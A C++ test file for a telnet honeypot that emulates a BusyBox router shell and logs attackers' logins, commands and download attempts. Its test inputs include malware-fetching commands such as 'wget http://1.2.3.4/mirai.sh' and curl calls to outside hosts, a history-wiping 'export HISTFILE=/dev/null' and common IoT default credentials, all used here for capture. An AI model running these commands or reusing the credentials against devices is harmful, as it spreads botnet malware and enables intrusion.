#include <doctest.h>

#include <filesystem>
#include <fstream>
#include <thread>

#include "events/sink.hpp"
#include "shell/config.hpp"
#include "shell/engine.hpp"
#include "shell/server.hpp"
#include "support/testnet.hpp"
#include "util/errors.hpp"
#include "util/hashing.hpp"
#include "util/strings.hpp"

using namespace iothp;
using shell::AuthResult;
using shell::CommandRule;
using shell::ShellConfig;
using shell::ShellSession;

namespace {

ShellConfig base_config() {
    ShellConfig config;
    config.phase = 1;
    config.hostname = "dlink";
    config.banner = "DD-WRT v24 std";
    config.motd = "BusyBox v1.16.1 (2012-03-27 10:36:54 CST) built-in shell (ash)";
    config.command_table = {
        {CommandRule::Match::Exact, "uname -a",
         "Linux ${hostname} 2.6.21 #1 Fri Apr 20 14:51:02 CST 2012 mips unknown"},
        {CommandRule::Match::Exact, "free -m",
         "              total         used         free       shared      buffers\n"
         "  Mem:            29           25            4            0            3"},
        {CommandRule::Match::Prefix, "cat /proc/cpuinfo | grep",
         "model name\t\t: RT3052 on ${hostname}"},
        {CommandRule::Match::Prefix, "tftp", "tftp: timeout"},
    };
    config.fs = {
        {"/", {true, ""}},
        {"/bin", {true, ""}},
        {"/bin/busybox", {false, "\x7f" "ELF..."}},
        {"/proc", {true, ""}},
        {"/proc/cpuinfo", {false, "system type\t\t: Ralink SoC\nprocessor\t\t: 0"}},
        {"/root", {true, ""}},
        {"/tmp", {true, ""}},
        {"/var", {true, ""}},
        {"/var/log", {true, ""}},
    };
    return config;
}

ShellSession authed_session() {
    ShellSession session;
    session.session_id = "s";
    session.authenticated = true;
    session.username = "root";
    return session;
}

}  // namespace

TEST_CASE("authenticate honors the phase") {
    ShellConfig config = base_config();

    config.phase = 1;
    CHECK(shell::authenticate({"anyone", "anything"}, config) == AuthResult::Success);

    config.phase = 2;
    config.allowlist = {{"admin", "admin"}, {"root", "12345"}};
    CHECK(shell::authenticate({"root", "12345"}, config) == AuthResult::Success);
    CHECK(shell::authenticate({"root", "wrong"}, config) == AuthResult::Failure);
    CHECK(shell::authenticate({"unknown", "12345"}, config) == AuthResult::Failure);

    config.phase = 3;
    config.single_credential = {"root", "vizxv"};
    CHECK(shell::authenticate({"root", "vizxv"}, config) == AuthResult::Success);
    CHECK(shell::authenticate({"root", "12345"}, config) == AuthResult::Failure);
    CHECK(shell::authenticate({"admin", "vizxv"}, config) == AuthResult::Failure);
}

TEST_CASE("split_composite splits on ; and && outside quotes") {
    CHECK(shell::split_composite("uname -a; free -m && ps -x") ==
          std::vector<std::string>{"uname -a", "free -m", "ps -x"});
    CHECK(shell::split_composite("echo \"a;b\" && ls; pwd") ==
          std::vector<std::string>{"echo \"a;b\"", "ls", "pwd"});
    CHECK(shell::split_composite("echo 'x && y'") ==
          std::vector<std::string>{"echo 'x && y'"});
    CHECK(shell::split_composite("  ;;  ") == std::vector<std::string>{});
    CHECK(shell::split_composite("single") == std::vector<std::string>{"single"});
}

TEST_CASE("parse_download extracts downloader URLs") {
    auto parse = [](std::initializer_list<const char*> toks) {
        return shell::parse_download(std::vector<std::string>(toks.begin(), toks.end()));
    };

    auto simple = parse({"wget", "http://1.2.3.4/bins.sh"});
    REQUIRE(simple.has_value());
    CHECK_FALSE(simple->parse_failed);
    CHECK(simple->url == "http://1.2.3.4/bins.sh");

    auto detached = parse({"wget", "-P", "/tmp", "http://118.184.50.24:7777/ppol"});
    REQUIRE(detached.has_value());
    CHECK(detached->url == "http://118.184.50.24:7777/ppol");

    auto joined = parse({"wget", "-P/tmp", "http://118.184.50.24:7777/ppol"});
    REQUIRE(joined.has_value());
    CHECK(joined->url == "http://118.184.50.24:7777/ppol");

    auto curl = parse({"curl", "-fsSL", "http://tp2.bizqsoft.com/soft/aa.sh"});
    REQUIRE(curl.has_value());
    CHECK(curl->url == "http://tp2.bizqsoft.com/soft/aa.sh");

    auto schemeless = parse({"curl", "-o", "out.sh", "1.2.3.4/x"});
    REQUIRE(schemeless.has_value());
    CHECK(schemeless->url == "http://1.2.3.4/x");

    auto busybox = parse({"/bin/busybox", "wget", "http://x/y"});
    REQUIRE(busybox.has_value());
    CHECK(busybox->url == "http://x/y");

    auto bare = parse({"wget"});
    REQUIRE(bare.has_value());
    CHECK(bare->parse_failed);

    CHECK_FALSE(parse({"ls", "-la"}).has_value());
    CHECK_FALSE(parse({"echo", "wget"}).has_value());
}

TEST_CASE("execute resolves table rules with templates") {
    ShellConfig config = base_config();
    ShellSession session = authed_session();

    auto uname = shell::execute("uname -a", session, config);
    CHECK(uname.output ==
          "Linux dlink 2.6.21 #1 Fri Apr 20 14:51:02 CST 2012 mips unknown");
    CHECK(uname.downloads.empty());

    // Piped commands decline the builtin and land on the prefix rule.
    auto piped = shell::execute("cat /proc/cpuinfo | grep name", session, config);
    CHECK(piped.output == "model name\t\t: RT3052 on dlink");

    auto tftp = shell::execute("tftp -g 5.6.7.8", session, config);
    CHECK(tftp.output == "tftp: timeout");

    auto missing = shell::execute("/gisdfoewrsfdf", session, config);
    CHECK(missing.output == "/gisdfoewrsfdf: command not found");
}

TEST_CASE("builtins walk the fake filesystem") {
    ShellConfig config = base_config();
    ShellSession session = authed_session();

    CHECK(shell::execute("pwd", session, config).output == "/");
    CHECK(shell::execute("ls", session, config).output == "bin  proc  root  tmp  var");
    CHECK(shell::execute("cat /proc/cpuinfo", session, config).output ==
          "system type\t\t: Ralink SoC\nprocessor\t\t: 0");
    CHECK(shell::execute("cat /nope", session, config).output ==
          "cat: can't open '/nope': No such file or directory");

    CHECK(shell::execute("cd /proc", session, config).output == "");
    CHECK(session.cwd == "/proc");
    CHECK(shell::execute("cat cpuinfo", session, config).output ==
          "system type\t\t: Ralink SoC\nprocessor\t\t: 0");
    CHECK(shell::execute("cd ..", session, config).output == "");
    CHECK(session.cwd == "/");
    CHECK(shell::execute("cd", session, config).output == "");
    CHECK(session.cwd == "/root");
    CHECK(shell::prompt(session, config) == "root@dlink:~# ");
    CHECK(shell::execute("cd /missing", session, config).output ==
          "-sh: cd: can't cd to /missing");
}

TEST_CASE("echo and export share the session environment") {
    ShellConfig config = base_config();
    ShellSession session = authed_session();

    CHECK(shell::execute("echo hi there", session, config).output == "hi there");
    CHECK(shell::execute("export HISTFILE=/dev/null", session, config).output == "");
    CHECK(session.env.at("HISTFILE") == "/dev/null");
    CHECK(shell::execute("echo $HISTFILE", session, config).output == "/dev/null");
    CHECK(shell::execute("echo ${HISTFILE}", session, config).output == "/dev/null");
    CHECK(shell::execute("echo $UNSET", session, config).output == "");
}

TEST_CASE("busybox dispatch") {
    ShellConfig config = base_config();
    ShellSession session = authed_session();

    auto usage = shell::execute("busybox", session, config);
    CHECK(usage.output.rfind("BusyBox v1.16.1", 0) == 0);
    CHECK(util::contains(usage.output, "Currently defined functions:"));

    CHECK(shell::execute("busybox FOOBAR", session, config).output ==
          "FOOBAR: applet not found");

    // A known applet behaves like the bare command.
    CHECK(shell::execute("busybox cat /proc/cpuinfo", session, config).output ==
          "system type\t\t: Ralink SoC\nprocessor\t\t: 0");
    CHECK(shell::execute("/bin/busybox echo ok", session, config).output == "ok");
}

TEST_CASE("downloads are captured, never fetched") {
    ShellConfig config = base_config();
    ShellSession session = authed_session();

    auto wget = shell::execute("wget http://1.2.3.4/mirai.sh", session, config);
    REQUIRE(wget.downloads.size() == 1);
    CHECK(wget.downloads[0].url == "http://1.2.3.4/mirai.sh");
    CHECK(wget.downloads[0].placeholder_sha256 ==
          util::sha256_hex("http://1.2.3.4/mirai.sh"));
    CHECK(util::contains(wget.output, "Connecting to 1.2.3.4 (1.2.3.4)"));
    CHECK(util::contains(wget.output, "100% |"));

    // curl stays silent on success, like the real tool.
    auto curl = shell::execute("curl -fsSL http://tp2.bizqsoft.com/aa.sh", session, config);
    REQUIRE(curl.downloads.size() == 1);
    CHECK(curl.output == "");

    auto composite = shell::execute("wget http://a/1.sh; wget http://b/2.sh", session, config);
    REQUIRE(composite.downloads.size() == 2);
    CHECK(composite.downloads[0].url == "http://a/1.sh");
    CHECK(composite.downloads[1].url == "http://b/2.sh");

    auto bare = shell::execute("wget", session, config);
    REQUIRE(bare.downloads.size() == 1);
    CHECK(bare.downloads[0].parse_failed);
    CHECK(bare.output == "wget: missing URL");
}

TEST_CASE("output redirection discards output but keeps effects") {
    ShellConfig config = base_config();
    ShellSession session = authed_session();

    CHECK(shell::execute("echo hi > /tmp/x", session, config).output == "");
    CHECK(shell::execute("uname -a > /dev/null", session, config).output == "");

    // The capture still happens when a download is redirected.
    auto wget = shell::execute("wget http://1.2.3.4/a.sh -O /tmp/a.sh", session, config);
    REQUIRE(wget.downloads.size() == 1);
    CHECK(wget.downloads[0].url == "http://1.2.3.4/a.sh");
}

TEST_CASE("shell config loads with relative references") {
    namespace fs = std::filesystem;
    fs::path dir = fs::temp_directory_path() / "iothp_shell_cfg_test";
    fs::create_directories(dir);

    std::ofstream(dir / "allow.txt")
        << "# top pairs\nroot vizxv\nadmin admin\nroot \"\"\n\"\" root\n\n";
    std::ofstream(dir / "cmds.json")
        << R"([{"match":"exact","pattern":"uname -a","response":"Linux ${hostname}"},)"
        << R"({"match":"prefix","pattern":"tftp","response":"tftp: timeout"}])";
    std::ofstream(dir / "fs.json")
        << R"({"/":{"type":"dir"},"/etc":{"type":"dir"},"/etc/passwd":{"type":"file","content":"root:x:0:0"}})";
    std::ofstream(dir / "shell.json") << R"({
        "phase": 2,
        "hostname": "dlink",
        "banner": "login banner",
        "allowlist_file": "allow.txt",
        "commands_file": "cmds.json",
        "fs_file": "fs.json"
    })";

    ShellConfig config = shell::load_shell_config((dir / "shell.json").string());
    CHECK(config.phase == 2);
    CHECK(config.allowlist == std::vector<std::pair<std::string, std::string>>{
                                  {"root", "vizxv"},
                                  {"admin", "admin"},
                                  {"root", ""},  // "" in the file means empty
                                  {"", "root"}});
    REQUIRE(config.command_table.size() == 2);
    CHECK(config.command_table[0].pattern == "uname -a");
    CHECK(config.command_table[1].match == CommandRule::Match::Prefix);
    CHECK(config.fs.at("/etc/passwd").content == "root:x:0:0");
    CHECK(config.fs.at("/etc").is_dir);

    fs::remove_all(dir);
}

TEST_CASE("shell config validation failures") {
    ShellConfig config = base_config();

    config.phase = 0;
    CHECK_THROWS_AS(shell::validate(config), ValidationError);

    config.phase = 2;
    config.allowlist.clear();
    CHECK_THROWS_AS(shell::validate(config), ValidationError);

    config.phase = 3;
    config.single_credential = {"", ""};
    CHECK_THROWS_AS(shell::validate(config), ValidationError);

    config.phase = 1;
    config.hostname = "";
    CHECK_THROWS_AS(shell::validate(config), ValidationError);
}

namespace {

struct LiveShell {
    std::shared_ptr<events::MemoryEventSink> sink;
    shell::ShellServer server;

    LiveShell(ShellConfig config, shell::ShellServerOptions options,
              std::shared_ptr<events::MemoryEventSink> s)
        : sink(std::move(s)), server(std::move(config), sink, std::move(options)) {
        server.start();
    }
    ~LiveShell() { server.stop(); }
};

shell::ShellServerOptions test_options() {
    shell::ShellServerOptions options;
    options.port = 0;
    options.idle_timeout_ms = 5000;
    return options;
}

std::vector<events::Event> session_events(const std::vector<events::Event>& all,
                                          const std::string& session) {
    std::vector<events::Event> out;
    for (const auto& e : all) {
        if (e.session == session) out.push_back(e);
    }
    return out;
}

}  // namespace

TEST_CASE("live shell: full session event trace") {
    ShellConfig config = base_config();
    config.phase = 3;
    config.single_credential = {"root", "vizxv"};
    auto sink = std::make_shared<events::MemoryEventSink>();
    LiveShell live(config, test_options(), sink);

    auto conn = netio::tcp_connect("127.0.0.1", live.server.port());
    std::string greeting = testnet::read_until(conn, "login: ");
    CHECK(util::contains(greeting, "DD-WRT v24 std"));
    CHECK(util::contains(greeting, "dlink login: "));

    conn.send_all("root\r\n");
    testnet::read_until(conn, "Password: ");
    conn.send_all("vizxv\r\n");
    std::string welcome = testnet::read_until(conn, "# ");
    CHECK(util::contains(welcome, "BusyBox v1.16.1"));
    CHECK(util::contains(welcome, "root@dlink:/# "));

    conn.send_all("uname -a\r\n");
    std::string out = testnet::read_until(conn, "mips unknown");
    testnet::read_until(conn, "# ");

    conn.send_all("wget http://1.2.3.4/mirai.sh\r\n");
    testnet::read_until(conn, "# ");

    conn.send_all("exit\r\n");
    testnet::read_until(conn, "logout");

    REQUIRE(testnet::wait_for_events(*sink, 7));
    auto events = sink->snapshot();
    REQUIRE(events.size() == 7);

    using K = events::EventKind;
    CHECK(events[0].kind == K::Connect);
    CHECK(events[0].payload.at("protocol") == "telnet");
    CHECK(events[1].kind == K::LoginSuccess);
    CHECK(events[1].payload.at("username") == "root");
    CHECK(events[1].payload.at("password") == "vizxv");
    CHECK(events[2].kind == K::Command);
    CHECK(events[2].payload.at("input") == "uname -a");
    CHECK(events[3].kind == K::Command);
    CHECK(events[3].payload.at("input") == "wget http://1.2.3.4/mirai.sh");
    CHECK(events[4].kind == K::DownloadAttempt);
    CHECK(events[4].payload.at("url") == "http://1.2.3.4/mirai.sh");
    CHECK(events[4].payload.at("placeholder_sha256") ==
          util::sha256_hex("http://1.2.3.4/mirai.sh"));
    CHECK(events[5].kind == K::Command);
    CHECK(events[5].payload.at("input") == "exit");
    CHECK(events[6].kind == K::Disconnect);
    CHECK(events[6].payload.at("reason") == "logout");

    for (const auto& e : events) {
        CHECK(e.session == events[0].session);
        CHECK(e.honeypot_id == "honeyshell");
    }
}

TEST_CASE("live shell: three failed logins yield exactly five events") {
    ShellConfig config = base_config();
    config.phase = 3;
    config.single_credential = {"root", "vizxv"};
    auto sink = std::make_shared<events::MemoryEventSink>();
    LiveShell live(config, test_options(), sink);

    auto conn = netio::tcp_connect("127.0.0.1", live.server.port());
    testnet::read_until(conn, "login: ");
    for (int i = 0; i < 3; ++i) {
        conn.send_all("root\r\n");
        testnet::read_until(conn, "Password: ");
        conn.send_all("guess" + std::to_string(i) + "\r\n");
        if (i < 2) testnet::read_until(conn, "login: ");
    }
    std::string tail = testnet::read_to_eof(conn);
    CHECK(util::contains(tail, "Login incorrect"));

    REQUIRE(testnet::wait_for_events(*sink, 5));
    auto events = sink->snapshot();
    REQUIRE(events.size() == 5);
    using K = events::EventKind;
    CHECK(events[0].kind == K::Connect);
    for (int i = 1; i <= 3; ++i) {
        CHECK(events[i].kind == K::LoginFailure);
        CHECK(events[i].payload.at("password") == "guess" + std::to_string(i - 1));
    }
    CHECK(events[4].kind == K::Disconnect);
    CHECK(events[4].payload.at("reason") == "auth_failed");
}

TEST_CASE("live shell: phase 2 allowlist gates logins") {
    ShellConfig config = base_config();
    config.phase = 2;
    config.allowlist = {{"admin", "admin"}, {"root", "12345"}};
    auto sink = std::make_shared<events::MemoryEventSink>();
    LiveShell live(config, test_options(), sink);

    auto conn = netio::tcp_connect("127.0.0.1", live.server.port());
    testnet::read_until(conn, "login: ");
    conn.send_all("admin\r\n");
    testnet::read_until(conn, "Password: ");
    conn.send_all("wrongpw\r\n");
    testnet::read_until(conn, "login: ");
    conn.send_all("root\r\n");
    testnet::read_until(conn, "Password: ");
    conn.send_all("12345\r\n");
    testnet::read_until(conn, "# ");
    conn.send_all("exit\r\n");
    testnet::read_until(conn, "logout");

    REQUIRE(testnet::wait_for_events(*sink, 5));
    auto events = sink->snapshot();
    REQUIRE(events.size() == 5);
    using K = events::EventKind;
    CHECK(events[1].kind == K::LoginFailure);
    CHECK(events[1].payload.at("username") == "admin");
    CHECK(events[2].kind == K::LoginSuccess);
    CHECK(events[2].payload.at("username") == "root");
    CHECK(events[2].payload.at("password") == "12345");
}

TEST_CASE("live shell: source tags override the logged address in test mode") {
    ShellConfig config = base_config();
    auto sink = std::make_shared<events::MemoryEventSink>();
    auto options = test_options();
    options.test_source_tags = true;
    LiveShell live(config, options, sink);

    auto conn = netio::tcp_connect("127.0.0.1", live.server.port());
    conn.send_all("%SRC 203.0.113.9\r\n");
    testnet::read_until(conn, "login: ");
    conn.send_all("u\r\n");
    testnet::read_until(conn, "Password: ");
    conn.send_all("p\r\n");
    testnet::read_until(conn, "# ");
    conn.send_all("exit\r\n");
    testnet::read_until(conn, "logout");

    REQUIRE(testnet::wait_for_events(*sink, 4));
    for (const auto& e : sink->snapshot()) {
        CHECK(e.src_ip == "203.0.113.9");
    }
}

TEST_CASE("live shell: idle connections disconnect with a timeout reason") {
    ShellConfig config = base_config();
    auto sink = std::make_shared<events::MemoryEventSink>();
    auto options = test_options();
    options.idle_timeout_ms = 150;
    LiveShell live(config, options, sink);

    auto conn = netio::tcp_connect("127.0.0.1", live.server.port());
    testnet::read_until(conn, "login: ");
    // Say nothing; the server should give up on us.
    REQUIRE(testnet::wait_for_events(*sink, 2, 3000));
    auto events = sink->snapshot();
    REQUIRE(events.size() == 2);
    CHECK(events[0].kind == events::EventKind::Connect);
    CHECK(events[1].kind == events::EventKind::Disconnect);
    CHECK(events[1].payload.at("reason") == "timeout");
}

TEST_CASE("live shell: concurrent sessions stay isolated") {
    constexpr int kClients = 16;
    ShellConfig config = base_config();
    auto sink = std::make_shared<events::MemoryEventSink>();
    auto options = test_options();
    options.test_source_tags = true;
    LiveShell live(config, options, sink);
    uint16_t port = live.server.port();

    std::vector<std::thread> clients;
    for (int i = 0; i < kClients; ++i) {
        clients.emplace_back([port, i] {
            auto conn = netio::tcp_connect("127.0.0.1", port);
            conn.send_all("%SRC 10.0.0." + std::to_string(i) + "\r\n");
            testnet::read_until(conn, "login: ");
            conn.send_all("user" + std::to_string(i) + "\r\n");
            testnet::read_until(conn, "Password: ");
            conn.send_all("pw\r\n");
            testnet::read_until(conn, "# ");
            conn.send_all("echo marker-" + std::to_string(i) + "\r\n");
            testnet::read_until(conn, "marker-" + std::to_string(i));
            testnet::read_until(conn, "# ");
            conn.send_all("exit\r\n");
            testnet::read_until(conn, "logout");
        });
    }
    for (auto& t : clients) t.join();

    REQUIRE(testnet::wait_for_events(*sink, kClients * 5));
    auto events = sink->snapshot();
    REQUIRE(events.size() == static_cast<size_t>(kClients) * 5);

    using K = events::EventKind;
    std::set<std::string> sessions;
    for (const auto& e : events) sessions.insert(e.session);
    CHECK(sessions.size() == kClients);

    for (const auto& session : sessions) {
        auto trace = session_events(events, session);
        REQUIRE(trace.size() == 5);
        CHECK(trace[0].kind == K::Connect);
        CHECK(trace[1].kind == K::LoginSuccess);
        CHECK(trace[2].kind == K::Command);
        CHECK(trace[3].kind == K::Command);
        CHECK(trace[3].payload.at("input") == "exit");
        CHECK(trace[4].kind == K::Disconnect);

        // The source tag ties commands back to the scripted client.
        std::string ip = trace[0].src_ip;
        std::string suffix = ip.substr(ip.rfind('.') + 1);
        CHECK(trace[1].payload.at("username") == "user" + suffix);
        CHECK(trace[2].payload.at("input") == "echo marker-" + suffix);
        for (const auto& e : trace) CHECK(e.src_ip == ip);
    }

    // Structural invariant: a session never runs a command before its login
    // succeeds.
    std::map<std::string, bool> logged_in;
    for (const auto& e : events) {
        if (e.kind == K::LoginSuccess) logged_in[e.session] = true;
        if (e.kind == K::Command) CHECK(logged_in[e.session]);
    }
}
